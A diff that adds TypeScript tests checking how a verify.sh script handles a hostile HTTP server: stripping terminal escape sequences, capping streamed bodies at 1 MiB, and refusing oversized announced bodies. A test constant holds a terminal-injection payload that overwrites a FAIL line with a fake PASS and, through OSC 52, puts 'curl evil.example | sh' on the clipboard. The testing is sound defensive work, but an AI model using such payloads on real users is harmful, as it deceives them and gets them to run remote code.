@@ -233,6 +233,88 @@ describe("verify.sh", () => {
   });
 });
 
+/** A server on loopback that answers every request with `respond` (a hostile or broken data plane). */
+function server(respond: (req: http.IncomingMessage, res: http.ServerResponse) => void): Promise<{ port: number; close: () => Promise<void> }> {
+  const s = http.createServer((req, res) => {
+    req.resume();
+    req.on("end", () => respond(req, res));
+  });
+  return new Promise((resolve) =>
+    s.listen(0, "127.0.0.1", () =>
+      resolve({ port: (s.address() as AddressInfo).port, close: () => new Promise((r) => { s.closeAllConnections(); s.close(() => r()); }) }),
+    ),
+  );
+}
+
+describe("verify.sh against a hostile server", () => {
+  const { verify: script } = scriptsFor();
+  // Moves up a line, erases it, writes a PASS over the FAIL, and sets the clipboard (OSC 52) to a command.
+  const REPAINT = `\x1b[1A\x1b[2K\rPASS chat completions: HTTP 200\x1b]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\x07\x1b[8m`;
+
+  test("prints only printable characters of a body: no escape sequence, bell or carriage return reaches the terminal", async () => {
+    const srv = await server((_req, res) => {
+      res.writeHead(500, { "content-type": "text/plain" });
+      res.end(REPAINT);
+    });
+    try {
+      const r = await verify(script, srv.port);
+      expect(r.code).toBe(1);
+      expect(r.out).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f]/);
+      expect(r.out).toMatch(/^FAIL chat completions: expected HTTP 200 with "choices", got HTTP 500: \[1A\[2KPASS chat completions: HTTP 200\]52;c;[A-Za-z0-9+/=]+\[8m$/m);
+      expect(r.out).not.toMatch(/^PASS/m);
+    } finally {
+      await srv.close();
+    }
+  });
+
+  test("reads at most 1 MiB of a streamed body that never ends (no Content-Length: --max-filesize does not apply)", async () => {
+    const LIMIT = 64 * 1024 * 1024; // what the server sends at most, so a broken script cannot fill the disk
+    const sent: number[] = [];
+    const srv = await server((_req, res) => {
+      res.writeHead(500, { "content-type": "text/event-stream" });
+      const chunk = Buffer.alloc(64 * 1024, "data: {}\n\n");
+      let total = 0;
+      const socket = res.socket!;
+      socket.on("close", () => sent.push(socket.bytesWritten));
+      const pump = () => {
+        while (total < LIMIT && !res.destroyed) {
+          total += chunk.length;
+          if (!res.write(chunk)) return void res.once("drain", pump);
+        }
+        res.end();
+      };
+      pump();
+    });
+    try {
+      const started = Date.now();
+      const r = await verify(script, srv.port);
+      expect(r.code).toBe(1);
+      expect(r.out).toMatch(/^FAIL chat completions: expected HTTP 200 with "choices", got HTTP 500: (data: \{\})+$/m);
+      expect(sent.length).toBeGreaterThan(0);
+      // 1 MiB read, plus what the loopback socket buffers held when curl stopped.
+      for (const bytes of sent) expect(bytes).toBeLessThan(16 * 1024 * 1024);
+      expect(Date.now() - started).toBeLessThan(20_000);
+    } finally {
+      await srv.close();
+    }
+  });
+
+  test("refuses a body announced larger than 1 MiB, and says so", async () => {
+    const srv = await server((_req, res) => {
+      res.writeHead(200, { "content-type": "application/json", "content-length": String(5 * 1024 * 1024 * 1024) });
+      res.write("{");
+      setTimeout(() => res.destroy(), 2000);
+    });
+    try {
+      const r = await verify(script, srv.port);
+      expect(r.code).toBe(1);
+      expect(r.out).toContain(`FAIL chat completions: response too large: http://127.0.0.1:${srv.port} announced a body over 1048576 bytes (curl exit 63)`);
+    } finally {
+      await srv.close();
+    }
+  });
+});
+
 /** PATH with recording stand-ins: every call is appended to calls.log; behaviour per tool below. */
 function stubs(dir: string, helmFails: boolean): { env: NodeJS.ProcessEnv; calls: () => string[] } {
   const bin = path.join(dir, "bin");
